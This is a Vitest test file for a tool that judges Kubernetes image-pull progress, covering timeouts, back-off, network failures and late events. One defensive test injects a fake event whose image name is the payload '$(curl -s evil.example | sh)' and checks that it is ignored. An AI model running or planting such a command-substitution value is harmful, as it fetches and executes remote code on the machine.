import { describe, expect, test } from 'vitest';
import { waitingFor } from '../../../src/judge/verdict.ts';
import { consumerOf } from '../../consumers.ts';
import { container, creating, event, findingAt, pod, stateAfter, verdict, waiting } from '../pods.ts';

describe('a pull', () => {
  const pulling = event('Pulling', 'Pulling image "app:1"', { of: 'step' });

  test('that neither ends nor fails is given up where pull-timeout says so', () => {
    const seen = [
      { at: 0, pod: creating },
      { at: 1000, event: pulling },
    ];
    expect(verdict(stateAfter(seen), 3_000_000)).toBe('waiting');
    const limited = stateAfter(seen, { pullTimeoutMs: 60_000 });
    expect(verdict(limited, 60_999)).toBe('waiting');
    expect(findingAt(limited, 61_000)).toMatchObject({
      category: 'image-pull',
      reason: 'timeout',
      image: 'app:1',
      container: 'step',
    });
  });

  test('is of an image of the pod, whatever an event names', () => {
    const foreign = event('Pulling', 'Pulling image "$(curl -s evil.example | sh)"', { of: 'step' });
    const seen = [
      { at: 0, pod: creating },
      { at: 1000, event: foreign },
    ];
    const found = findingAt(stateAfter(seen, { pullTimeoutMs: 60_000 }), 61_000);
    expect(found).toMatchObject({ image: 'app:1', message: expect.not.stringContaining('evil') });
  });

  test('that neither ends nor fails goes on where another policy is left: the node can’t be made to stop', () => {
    const seen = [
      { at: 0, pod: creating },
      { at: 1000, event: pulling },
    ];
    const of = { pullTimeoutMs: 60_000, fallbacks: [consumerOf('step')] };
    expect(verdict(stateAfter(seen, of), 3_000_000)).toBe('waiting');
    expect(waitingFor(stateAfter(seen, of))).toBe(
      'the node is pulling app:1 for the container step; a node can’t be made to stop, so the next policy is tried when the pull fails',
    );
    expect(verdict(stateAfter(seen, { ...of, fallbacks: [consumerOf('db')] }), 61_000)).toBe(
      'image-pull timeout step',
    );
  });

  test('is over where its container has started, though the event of its end was lost', () => {
    const ofDb = event('Pulling', 'Pulling image "db:1"', { of: 'db' });
    const started = pod(
      {
        containerStatuses: [
          container({ running: {} }, 'db'),
          container({ waiting: { reason: 'ContainerCreating' } }),
        ],
      },
      { spec: { containers: ['db', 'step'].map((name) => ({ name, image: `${name}:1` })) } },
    );
    const seen = [
      { at: 0, event: ofDb },
      { at: 1000, pod: started },
    ];
    expect(verdict(stateAfter(seen, { pullTimeoutMs: 60_000 }), 100_000)).toBe('waiting');
  });

  test('that succeeded ends the grace, though the status still tells of the failure before', () => {
    const refused = 'failed to do request: dial tcp 10.0.0.1:443: connect: connection refused';
    const state = stateAfter([
      { at: 0, pod: waiting('ErrImagePull', refused) },
      { at: 29_000, event: event('Pulled', 'Successfully pulled image "app:1" in 1s', { of: 'step' }) },
      { at: 29_500, pod: waiting('ErrImagePull', refused) },
    ]);
    expect(verdict(state, 300_000)).toBe('waiting');
  });

  test('that succeeded is not undone by an older event that comes late, nor one whose container runs', () => {
    const failed = event('Failed', 'Failed to pull image "app:1": connect: connection refused', {
      of: 'step',
    });
    const missing = event('Failed', 'Failed to pull image "app:1": not found', { of: 'step' });
    const pulled = event('Pulled', 'Successfully pulled image "app:1" in 1s', { of: 'step' });
    const running = pod({ containerStatuses: [container({ running: {} })] });
    const late = [
      { at: 0, pod: creating },
      { at: 9000, event: pulled },
      { at: 9500, event: failed },
    ];
    expect(verdict(stateAfter(late), 300_000)).toBe('waiting');
    const later = [
      { at: 0, pod: creating },
      { at: 500, pod: running },
      { at: 900, event: missing },
    ];
    expect(verdict(stateAfter(later), 300_000)).toBe('waiting');
  });

  test('that could not succeed is why, also where the node then says it lost the container that never was', () => {
    const lost = container({ terminated: { exitCode: 137, reason: 'ContainerStatusUnknown' } });
    const missing = event('Failed', 'Failed to pull image "app:1": not found', { of: 'step' });
    const last = pod({ phase: 'Failed', containerStatuses: [lost] });
    const seen = [
      { at: 0, pod: creating },
      { at: 900, pod: last },
      { at: 950, event: missing },
    ];
    expect(verdict(stateAfter(seen.toSpliced(1, 1)), 950)).toBe('image-pull not-found step');
    expect(verdict(stateAfter([seen[0], seen[2], seen[1]].flatMap((one) => one ?? [])), 950)).toBe(
      'image-pull not-found step',
    );
  });

  test('that an old kubelet only calls a back-off keeps the cause that was told before', () => {
    const state = stateAfter([
      { at: 0, pod: waiting('ErrImagePull', 'dial tcp 10.0.0.1:443: connect: connection refused') },
      { at: 9000, pod: waiting('ImagePullBackOff', 'Back-off pulling image "app:1"') },
    ]);
    expect(verdict(state, 29_999)).toBe('waiting');
    expect(verdict(state, 30_000)).toBe('image-pull network step');
  });

  test('that the kubelet holds back by its own limit is a wait without end', () => {
    const state = stateAfter([{ at: 0, pod: waiting('ErrImagePull', 'pull QPS exceeded') }]);
    expect(verdict(state, 3_000_000)).toBe('waiting');
  });
});
